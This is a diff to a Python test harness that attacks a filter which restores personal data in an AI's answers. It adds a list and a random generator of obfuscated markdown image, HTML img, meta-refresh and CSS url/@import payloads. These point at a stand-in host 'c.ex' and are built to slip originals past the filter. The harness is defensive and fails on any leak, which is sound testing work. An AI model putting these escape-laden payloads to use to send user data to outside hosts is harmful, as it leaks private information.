@@ -4,8 +4,9 @@
 
 Answers with a surrogate in a URL are made at random: images, links, references and attributes of HTML, with schemes,
 slashes and marks escaped, cut and mixed as readers take them. Each is restored, whole and as a stream that is cut
-anywhere, and read as browsers and Markdown read it. An original in a URL to a host that nobody named is a leak. Exit
-status 1 if there is one; also if originals in URLs of the named host are mostly not restored.
+anywhere, and read as browsers and Markdown read it. An original in a URL to a host that nobody named is a leak, and so
+is one in a URL that is hidden in escapes (a list). Exit status 1 if there is one; also if originals in URLs of the
+named host are mostly not restored.
 """
 
 from __future__ import annotations
@@ -63,6 +64,97 @@ _JUNK: Final = (
     ),
     *("&gt;", "\u2028", ";", "*", "_", "~", "//", f"https://{NAMED}/", "?", "#", "\t", " ", '"', "\n", ">", "<", ")"),
 )
+
+
+HIDDEN: Final = (
+    *(
+        r"![](http://localhost\@c.ex/?n={})",
+        r"![](http://localhost\.c.ex/?n={})",
+        r"![](http://127.0.0.1\@c.ex/?n={})",
+        r"![](https://portal.example\.c.ex/{})",
+        r"![](https://portal.example\\@c.ex/{})",
+        r"![](https://portal.example\\.c.ex/{})",
+        r"![](https://portal.example\-c.ex/{})",
+        r"![](https://portal.example\:1@c.ex/{})",
+        r"![](https://portal.example\?.c.ex/{})",
+        r"![](https://{}\.portal.example\@c.ex/)",
+        r"[a]: https://portal.example\_.c.ex/{}",
+    ),
+    *(
+        r"![](https\:c.ex/?n={})",
+        r"![](https\:\/\/c.ex/?n={})",
+        r"![](https:\/\/c\.ex/?n={})",
+        r"![](\/\/c.ex/?n={})",
+        r"![](\//c.ex/?n={})",
+        r"![](/\/c.ex/?n={})",
+        r"[a]: https\:c.ex/{}",
+        r"[a](<https\:c.ex/a b {}>)",
+        r"![](http\&#58;c.ex/{})",
+    ),
+    *(
+        '<img src="h&#9;&#9;&#9;&#9;ttps:c.ex/?n={}">',
+        '<img src="h' + "&#9;" * 40 + 'ttps:c.ex/a b {}">',
+        '<img src="h' + "\t" * 400 + 'ttps:c.ex/a b {}">',
+        '<img src="h' + "&#9;\n\n\n\n" * 9 + 'ttps:c.ex/a b {}">',
+        '<img src="https' + "\n" * 900 + ':c.ex/a b {}">',
+        '<img src="/' + "\t&Tab;" * 99 + '/c.ex/a b {}">',
+        '<img src="&#00000000104;ttps:c.ex/a b {}">',
+        '<img src="ht&#x' + "0" * 700 + '74;ps:c.ex/a b {}">',
+        '<img src="ht&#' + "0" * 700 + '116;ps:c.ex/a b {}">',
+        "![](<&#00000000104;ttps:c.ex/a b {}>)",
+        '<img src="&#xahttps:c.ex/a b {}">',
+        '<img src="&#9//c.ex/a b {}">',
+        '<img src="&' + "amp;" * 20 + '#104;ttps:c.ex/a b {}">',
+        '<a href="%2525252525252568ttps:c.ex/{}">',
+    ),
+    *(
+        r'<p style="a:url(\2f\2f c.ex/{})">',
+        r'<p style="a:url(\2f \2f c.ex/{})">',
+        r'<p style="a:url(/\2f c.ex/{})">',
+        r'<p style="a:url(\5c\5c c.ex/{})">',
+        r'<p style="a:url(\00002f\00002fc.ex/{})">',
+        r"<p style='a:url(" + '"ht\\74ps:c.ex/a b {}")' + "'>",
+        r"<p style='a:url(" + '"\\68 ttps\\:c.ex/a b {}")' + "'>",
+        r'<style>@import "\2f\2f c.ex/a b {}";</style>',
+        '<style>@import "\t//c.ex/a b {}";</style>',
+        '<style>@import"\thttps:c.ex/a b {}";</style>',
+        r'<style>@import "\a//c.ex/a b {}";</style>',
+        r'<style>@import "\000068\000074\000074\000070:c.ex/a b {}";</style>',
+        r'<style>@import "\ahttps:c.ex/a b {}";</style>',
+        r'<p style="a:url(\&#50;f\&#50;f c.ex/{})">',
+        r'<p style="a:url(&#92;2f&#92;2f c.ex/{})">',
+        r'<p style="a:url(&bsol;2f&bsol;2f c.ex/{})">',
+        '<p style="a:url(&#39;h&#x5c;74 tps:c.ex/a b {}&#39;)">',
+        r"<p style='a:url(https://portal\2e example.c.ex/{})'>",
+    ),
+    *(
+        '<meta http-equiv=refresh content="0; https://c.ex/?n=a {}">',
+        '<meta http-equiv=refresh content="0;https://c.ex/?n=a {}">',
+        '<meta http-equiv=refresh content="0 https://c.ex/?n=a {}">',
+        '<meta http-equiv=refresh content="0, https://c.ex/?n=a>b {}">',
+        '<meta http-equiv=refresh content="0;url=https://c.ex/?n=a>b {}">',
+        "<meta content='0&#59;//c.ex/?n=a {}' http-equiv=refresh>",
+        '<meta http-equiv=refresh content="' + "0" * 900 + '; https://c.ex/?n=a {}">',
+        "<style>a{b:url( '\\9 \\9 //c.ex/a b {}')}</style>",
+        '{"u": "\\n\\nhttps:c.ex/a b {}"}',
+        "&lt;meta http-equiv=refresh content='0;\n https://c.ex/?n=a {}'&gt;",
+        r'\u003cmeta http-equiv=refresh content="0; https://c.ex/?n=a {}">',
+    ),
+)
+"""Answers with a URL to a host that nobody named, hidden in escapes that one reader or another reads."""
+
+
+_HIDING_PLACES: Final = (
+    ("![](", ")", ("?n=", "/")),
+    ("![](<", ">)", ("?n=", "/a b ")),
+    ('<img src="', '">', ("?n=", "/a b ", "/a>b ", "/a'b ")),
+    ("<img src=' \n", "'>", ("?n=", "/a b ", "/a>b ")),
+    ('<p style="a:url(', ')">', ("?n=", "/")),
+    ('<style>@import "', '";</style>', ("?n=", "/a b ", "/a>b ")),
+    ('<meta http-equiv=refresh content="0;', '">', ("?n=", "/a b ", "/a>b ", "/a'b ")),
+    ("<meta http-equiv=refresh content=\"0; url='", "'\">", ("?n=", "/a b ", "/a>b ")),
+)
+"""What begins and ends a URL, and what it may go on with behind its host."""
 
 
 class Answer(NamedTuple):
@@ -168,6 +260,48 @@ def restored(restorer: Restorer, text: str, rng: random.Random) -> str:
     return "".join([*parts, stream.close()])
 
 
+def _hidden_character(character: str, rng: random.Random) -> str:
+    """A character as one reader or another decodes it, perhaps behind what another leaves out."""
+    code, zeros, backslashes = ord(character), "0" * rng.choice((0, 1, 4, 5, 6, 9)), "\\" * rng.randrange(1, 4)
+    return rng.choice(
+        (
+            f"&#{zeros}{code};",
+            f"&#x{zeros}{code:x};",
+            f"&amp;amp;#{code};",
+            f"{backslashes}u{code:04x}",
+            f"{backslashes}x{code:02x}",
+            f"\\{code:x} ",
+            f"\\{code:06x}",
+            f"&#92;{code:x} ",
+            "\t" * rng.randrange(9) + character,
+            "&Tab;" * rng.randrange(9) + character,
+            "&#10;\r" * rng.randrange(5) + character,
+            f"\\{character}",
+            f"%{code:02x}",
+        )
+    )
+
+
+def hidden_at_random(rng: random.Random) -> str:
+    """An answer with a URL to a host that nobody named, hidden in escapes at random; ``{}`` is in it for a name."""
+    begin, end, rest = rng.choice(_HIDING_PLACES)
+    start = rng.choice(("https://", "https:", "http:", "//", "ws:", "\\\\", "/\\"))
+    start = "".join(_hidden_character(each, rng) if rng.random() < 0.35 else each for each in start)
+    host = rng.choice(("c.ex", f"localhost\\@{NAMED}.c.ex", f"{NAMED}\\.c.ex"))
+    return f"{rng.choice(('', 'So&#8217; '))}{begin}{start}{host}{rng.choice(rest)}{{}}{end} Bye."
+
+
+def hidden(seed: int, answers: int, in_urls: InUrls = "named-hosts") -> list[str]:
+    """The hidden URLs, those of the list and so many at random, into which an original goes, whole or as a stream."""
+    rng, restorer = random.Random(seed), Restorer((MAP, MAP), in_urls=in_urls)
+    found = []
+    for form in (*HIDDEN, *(hidden_at_random(rng) for _ in range(answers))):
+        answer = form.replace("{}", rng.choice((SURROGATES[1], "Anna Miller", "Anna%20Miller")))
+        for text in (restorer.restore(answer).text, restored(restorer, answer, rng)):
+            found += [text] if any(original in text for original in ORIGINALS) else []
+    return found
+
+
 class Outcome(NamedTuple):
     """What an attack came to: answers that leak, and of URLs of the named host how many there are and are restored."""
 
@@ -196,12 +330,14 @@ def main() -> None:
     parser.add_argument("--seed", type=int, default=1)
     told = parser.parse_args()
     outcome = attack(told.answers, told.seed)
-    for text in outcome.leaks[:10]:
+    unseen = hidden(told.seed, told.answers)
+    for text in [*unseen[:10], *outcome.leaks[:10]]:
         print(repr(text))
     print(
-        f"{told.answers} answers: {len(outcome.leaks)} leaks; of the named host {outcome.restored} of {outcome.named}"
+        f"{told.answers} answers: {len(outcome.leaks)} leaks, {len(unseen)} of hidden URLs; "
+        f"of the named host {outcome.restored} of {outcome.named}"
     )
-    sys.exit(1 if outcome.leaks or outcome.restored < 0.9 * outcome.named else 0)
+    sys.exit(1 if outcome.leaks or unseen or outcome.restored < 0.9 * outcome.named else 0)
 
 
 if __name__ == "__main__":
